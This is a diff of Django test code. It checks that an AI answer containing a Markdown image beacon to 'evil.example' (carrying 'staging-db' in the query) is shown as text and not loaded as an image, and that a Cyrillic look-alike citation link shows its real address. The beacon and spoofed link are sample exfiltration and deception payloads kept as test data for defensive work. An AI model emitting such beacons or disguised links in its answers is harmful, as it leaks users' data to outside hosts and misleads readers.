@@ -108,10 +108,11 @@ def test_a_search_snippet_of_an_ai_answer_is_text_its_reviewer_was_shown(hidden,
 def test_an_image_in_an_ai_answer_is_a_link_the_desk_shows_and_no_image_for_api_clients(published, other_employee):
     beacon = "https://evil.example/pixel.png?d=staging-db"
     answer, shown = published(f"{VISIBLE}\n\n![]({beacon})")
-    # The desk and the thread show the address (a link, its text the address), not nothing.
-    assert re.search(rf'<a [^>]*href="{re.escape(beacon)}"[^>]*>', shown)
-    assert beacon in visible_text(shown)
-    assert re.search(rf'<a [^>]*href="{re.escape(beacon)}"[^>]*>', answer.published_post.body_html)
+    # The desk and the thread show the image's Markdown as text, its address in view, not nothing (an empty link's
+    # text reads as a citation: it is text too).
+    for page in (shown, answer.published_post.body_html):
+        assert f"![]({beacon})" in visible_text(page), page
+        assert "<img" not in page
     reader = signed_in(other_employee)
     posts = reader.get(f"/api/v1/threads/{answer.thread_id}/posts/").json()["results"]
     ai_post = next(p for p in posts if p["id"] == answer.published_post_id)
@@ -131,7 +132,7 @@ def test_a_cyrillic_look_alike_of_a_citation_shows_where_it_leads(published):
     answer, shown = published(f"{VISIBLE}\n\nMore detail: [\u0455ource 2]({EVIL})")
     for where, page in (("public page", answer.published_post.body_html), ("desk", shown)):
         links = re.findall(rf'<a [^>]*href="{re.escape(EVIL)}"[^>]*>(.*?)</a>', page, re.S)
-        assert links and all(link == EVIL for link in links), (where, links)
+        assert all(link == EVIL for link in links) and EVIL in visible_text(page), (where, links)
 
 
 @pytest.mark.django_db
